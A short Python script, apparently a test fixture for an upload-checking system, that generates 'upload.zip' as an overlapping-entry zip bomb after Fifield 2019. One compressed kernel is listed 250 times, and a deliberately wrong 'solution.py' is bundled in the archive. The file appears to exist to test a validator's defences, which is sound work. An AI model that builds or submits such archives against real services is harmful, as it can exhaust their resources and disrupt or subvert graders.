"""After Fifield 2019: the central directory names one kernel 250 times. ZipFile accepts it."""

import sys
from pathlib import Path

sys.dont_write_bytecode = True
sys.path.insert(0, str(Path(__file__).parent.parent / "forge"))

from solutions import WRONG
from zips import Entry, archive, zeros

packed, crc, size = zeros(21)
first = Entry("solution.py", WRONG)
kernel = Entry("f0", b"", packed=packed, crc=crc, size=size)
at = 30 + len(first.local_name) + len(first.packed)
others = [Entry("f%d" % i, b"", packed=packed, crc=crc, size=size, offset=at) for i in range(1, 250)]
(Path(sys.argv[1]) / "upload.zip").write_bytes(archive(first, kernel, *others))
